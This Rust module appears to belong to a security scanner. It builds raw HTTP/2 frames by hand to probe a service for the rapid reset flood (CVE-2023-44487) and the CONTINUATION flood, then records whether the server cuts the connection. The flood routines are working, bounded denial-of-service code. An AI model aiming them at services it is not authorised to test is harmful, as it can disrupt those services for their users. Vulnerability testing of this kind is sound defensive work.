//! HTTP/2 without TLS, by hand: rapid reset (CVE-2023-44487) and the CONTINUATION flood (CERT VU#421644).

use std::time::Duration;

use keel_wire::raw::{Ended, RawConnection};

use super::client::{Client, FLOODER};
use crate::finding::Evidence;

/// Streams that are opened and reset at once.
const RESETS: u32 = 2_000;
/// Sent at a time; what came back is looked at after each.
const RESETS_AT_A_TIME: u32 = 100;
/// The most of a header block that never ends, in bytes.
const HEADER_BLOCK: usize = 4 << 20;
/// The largest frame that every peer must take (RFC 9113, 4.2), in bytes.
const FRAME: usize = 16 << 10;
/// How long a write or an answer may take.
const EACH: Duration = Duration::from_secs(2);
/// How long is looked for an answer between two writes.
const GLANCE: Duration = Duration::from_millis(5);
/// How long a header block without end may stay open after its last frame.
const CUT: Duration = Duration::from_secs(5);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Both floods, when the service speaks HTTP/2 without TLS.
pub(super) async fn floods(client: &Client<'_>) -> Vec<Evidence> {
    if open(client).await.is_none() {
        return vec![Evidence::note(
            "it does not speak HTTP/2 without TLS: rapid reset and CONTINUATION were not examined",
        )];
    }
    vec![rapid_reset(client).await, client.others("after rapid resets").await, continuation(client).await]
}

/// A connection on which both sides have said their settings; none when the other side does not speak HTTP/2.
async fn open(client: &Client<'_>) -> Option<RawConnection> {
    let mut connection = client.listener.open_from(FLOODER, EACH).await.ok()?;
    let hello = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    connection.write(&hello, EACH).await.ok()?;
    let heard = connection.listen(9, EACH).await;
    let is_settings = heard.bytes.len() >= 9 && heard.bytes[3] == SETTINGS && heard.bytes[5..9] == [0; 4];
    is_settings.then_some(connection)
}

async fn rapid_reset(client: &Client<'_>) -> Evidence {
    let Some(mut connection) = open(client).await else {
        return Evidence::note("a second HTTP/2 connection was refused: rapid reset was not examined");
    };
    let block = request_block(client);
    let mut heard = Vec::new();
    for first in (0..RESETS).step_by(RESETS_AT_A_TIME as usize) {
        let mut bytes = Vec::new();
        for stream in (first..first + RESETS_AT_A_TIME).map(|n| 2 * n + 1) {
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &block));
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())); // CANCEL
        }
        let written = connection.write(&bytes, EACH).await;
        let glance = connection.listen(1 << 20, GLANCE).await;
        heard.extend(glance.bytes);
        if written.is_err() || glance.ended != Ended::StillOpen || has_goaway(&heard) {
            let what = format!("rapid reset is cut after at most {} of {RESETS} streams", first + RESETS_AT_A_TIME);
            return Evidence::saw(true, what);
        }
    }
    // Not cut: harmless all the same when others are served, which the next piece of evidence says.
    Evidence::note(format!("{RESETS} streams were opened and reset at once on one connection, which stays open"))
}

async fn continuation(client: &Client<'_>) -> Evidence {
    let Some(mut connection) = open(client).await else {
        return Evidence::note("another HTTP/2 connection was refused: CONTINUATION was not examined");
    };
    let mut heard = Vec::new();
    let begun = connection.write(&frame(HEADERS, END_STREAM, 1, &request_block(client)), EACH).await;
    let filler = header_fields(FRAME);
    let piece = frame(CONTINUATION, 0, 1, &filler);
    let mut sent = 0;
    let mut cut = begun.is_err();
    while !cut && sent < HEADER_BLOCK {
        cut = connection.write(&piece, EACH).await.is_err();
        sent += filler.len();
        let glance = connection.listen(1 << 20, GLANCE).await;
        heard.extend(glance.bytes);
        cut |= glance.ended != Ended::StillOpen || has_goaway(&heard);
    }
    if !cut {
        let rest = connection.listen(1 << 20, CUT).await;
        heard.extend(rest.bytes);
        cut = rest.ended != Ended::StillOpen || has_goaway(&heard);
    }
    let kibibytes = sent >> 10;
    match cut {
        true => Evidence::saw(true, format!("a header block of CONTINUATION frames is cut after {kibibytes} KiB")),
        false => Evidence::saw(false, format!("a header block of {kibibytes} KiB in CONTINUATION frames is taken")),
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Whether a GOAWAY is among these frames (what came after the first frame's head, so its payload comes first).
fn has_goaway(bytes: &[u8]) -> bool {
    // Frames are aligned only when nothing was cut off before; the fixed shape of GOAWAY's head is looked for instead:
    // its type, no flags, stream 0.
    bytes.windows(6).any(|window| window == [GOAWAY, 0, 0, 0, 0, 0])
}

/// The harmless request as an HPACK block without indexing.
fn request_block(client: &Client<'_>) -> Vec<u8> {
    let mut block = vec![0x82, 0x86]; // :method GET, :scheme http
    literal(&mut block, b":path", client.harmless.request.path.as_bytes());
    literal(&mut block, b":authority", client.listener.host.as_bytes());
    block
}

/// Valid header fields of exactly this many bytes in all.
fn header_fields(size: usize) -> Vec<u8> {
    let mut block = Vec::with_capacity(size);
    while size - block.len() >= 2 * 68 {
        literal(&mut block, b"x-a", &[b'a'; 62]); // 68 bytes each
    }
    let rest = size - block.len();
    // At least 68 bytes are left: one field takes them, its two lengths within a byte each.
    literal(&mut block, b"x-a", &vec![b'a'; (rest - 6).min(126)]);
    block
}

/// A literal header field without indexing and without Huffman coding (RFC 7541, 6.2.2).
fn literal(block: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    block.push(0);
    string(block, name);
    string(block, value);
}

fn string(block: &mut Vec<u8>, text: &[u8]) {
    let mut length = text.len();
    if length < 127 {
        block.push(length as u8);
    } else {
        block.push(127);
        length -= 127;
        while length >= 128 {
            block.push((length % 128) as u8 | 128);
            length /= 128;
        }
        block.push(length as u8);
    }
    block.extend(text);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_carries_length_type_flags_and_stream() {
        assert_eq!(frame(HEADERS, 5, 7, b"ab"), [0, 0, 2, 1, 5, 0, 0, 0, 7, b'a', b'b']);
    }

    #[test]
    fn a_long_string_has_a_length_of_several_bytes() {
        let mut block = Vec::new();
        string(&mut block, &[b'a'; 300]);
        assert_eq!(block[..3], [127, 173, 1]); // 127 + 45 + 128
    }

    #[test]
    fn a_continuation_frame_is_never_larger_than_every_peer_must_take() {
        assert!((FRAME - 16..=FRAME).contains(&header_fields(FRAME).len()));
    }
}
